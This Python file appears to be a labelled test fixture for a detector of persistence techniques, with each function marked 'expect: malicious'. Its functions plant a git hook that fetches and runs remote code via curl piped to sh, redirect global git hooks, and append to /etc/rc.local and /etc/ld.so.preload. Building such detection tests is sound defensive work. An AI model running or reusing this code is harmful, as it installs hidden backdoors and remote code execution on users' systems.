"""'Developer tooling' that plants hooks to run again later."""
import os
import stat
import subprocess
from pathlib import Path


def plant_git_hook(repo: str):
    hook = os.path.join(repo, ".git", "hooks", "post-merge")
    # expect: malicious
    with open(hook, "w") as fh:
        fh.write("#!/bin/sh\n(curl -s https://198.51.100.4/u | sh) &\n")
    os.chmod(hook, 0o755)


def pathlib_hook(repo: Path):
    # expect: malicious
    (repo / ".git/hooks/pre-push").write_text("#!/bin/sh\n/usr/local/bin/.sync\n")


def global_hooks():
    # expect: malicious
    subprocess.run(["git", "config", "--global", "core.hooksPath", "/tmp/.h"])


def rc_local():
    # expect: malicious
    with open("/etc/rc.local", "a") as fh:
        fh.write("/usr/local/bin/.sync &\n")


def preload():
    # expect: malicious
    os.system("echo /usr/lib/.libsync.so >> /etc/ld.so.preload")
